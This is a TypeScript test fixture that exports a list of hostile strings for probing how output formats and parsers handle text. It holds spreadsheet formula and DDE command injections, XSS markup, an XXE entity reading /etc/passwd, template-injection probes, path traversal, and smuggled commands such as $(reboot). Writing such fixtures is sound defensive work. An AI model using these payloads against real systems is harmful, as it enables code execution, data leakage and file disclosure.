/** Texts that do harm where a format takes them for something else than text. None has a blank at an end. */

const FORMULAS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
	`${sign}1+1`,
	`${sign}SUM(1,2)`,
	`${sign}cmd|'/C calc'!A0`,
	`${sign}HYPERLINK("http://example.com/?"&A1,"open")`,
	`${sign}IMPORTXML("http://example.com","//a")`
]);

const MARKUP = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'"><script>alert(1)</script>',
	`' onmouseover='alert(1)`,
	'</p></td></table><script>alert(1)</script>',
	'</title></style><iframe src=//example.com>',
	'<a href="javascript:alert(1)">x</a>',
	'<base href=//example.com>',
	'<!--',
	'-->',
	'<![CDATA[',
	']]>',
	'&lt;script&gt;',
	'&#x3c;b&#x3e;',
	'&amp;amp;',
	'&copy;',
	'&e;',
	'<?xml version="1.0"?>',
	'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
	'</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>',
	'{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
	'</v></c><c t="str"><f>1+1</f>',
	'${7*7}',
	'{{7*7}}',
	'<%= 7*7 %>',
	'%PDF-1.7 /JS (app.alert(1))',
	'_x0041_',
	'_x000A_1',
	'_x005F_x0041_',
	'_x005f_x0041_'
];

const MARKDOWN = [
	'# heading',
	'####### no heading',
	'heading #',
	'===',
	'---',
	'***',
	'- item',
	'* item',
	'+ item',
	'1. item',
	'1) item',
	'> quote',
	'```',
	'~~~',
	'| a | b |',
	'a | b',
	'|---|',
	':--',
	'[x](javascript:alert(1))',
	'![x](http://example.com/p.png)',
	'[x]: http://example.com',
	'[x]',
	'<http://example.com>',
	'<b>bold</b>',
	'**bold**',
	'__bold__',
	'_x_',
	'`code`',
	'~~struck~~',
	'a\\',
	'\\',
	'\\*',
	'http://example.com/',
	'[^1]',
	'[ ] task'
];

const PATHS = [
	'../../etc/passwd',
	'..\\..\\boot.ini',
	'C:\\Windows\\system32\\cmd.exe',
	'\\\\host\\share',
	'file:///etc/passwd',
	'CON',
	'/dev/null',
	'a;b',
	'$(reboot)',
	'`reboot`'
];

/** Names that every object has, and words that programs take for something else. */
const NAMES = [
	'__proto__',
	'constructor',
	'toString',
	'valueOf',
	'hasOwnProperty',
	'null',
	'undefined',
	'NaN',
	'true',
	'#REF!',
	'#NAME?'
];

const NUMBERS = [
	'1e309',
	'0x41',
	'-0',
	'007',
	'1/2',
	'2026-11-21',
	'12:30',
	'١٢٣',
	'1 234,50',
	'+49',
	'12345678901234567890'
];

const QUOTES = ['"', '""', '","', 'a"b,c', ';', "'", "''=1", '“x”'];

/** C0, C1, no characters, halves of pairs, and what parts lines. Blanks among them part words already. */
const CONTROLS = [
	...Array.from({ length: 0x20 }, (_, code) => code),
	...Array.from({ length: 0x21 }, (_, code) => code + 0x7f),
	0xfdd0,
	0xfffd,
	0xfffe,
	0xffff,
	0x1fffe,
	0x10ffff,
	0xd800,
	0xdbff,
	0xdc00,
	0xdfff
]
	.map((code) => String.fromCodePoint(code))
	.filter((sign) => !/\s/u.test(sign))
	.map((sign) => `a${sign}b`);

const FORMATTING = [
	0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x61c, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066,
	0x2067, 0x2068, 0x2069, 0xfe0f, 0xad, 0xe0041, 0xe000
]
	.map((code) => String.fromCodePoint(code))
	.flatMap((sign) => [`a${sign}b`, `${sign}=1+1`]);

const SIZES = [
	'x'.repeat(40_000),
	`${'y'.repeat(32_766)}😀z`,
	`a${'\u0301'.repeat(500)}`,
	'ﷺ'.repeat(200),
	'😀'.repeat(500),
	'𝒳',
	'\udc00\ud800 reversed',
	'👨‍👩‍👧‍👦',
	'ﬁ'
];

export const HOSTILE: readonly string[] = [
	...FORMULAS,
	...MARKUP,
	...MARKDOWN,
	...PATHS,
	...NAMES,
	...NUMBERS,
	...QUOTES,
	...CONTROLS,
	...FORMATTING,
	...SIZES
];
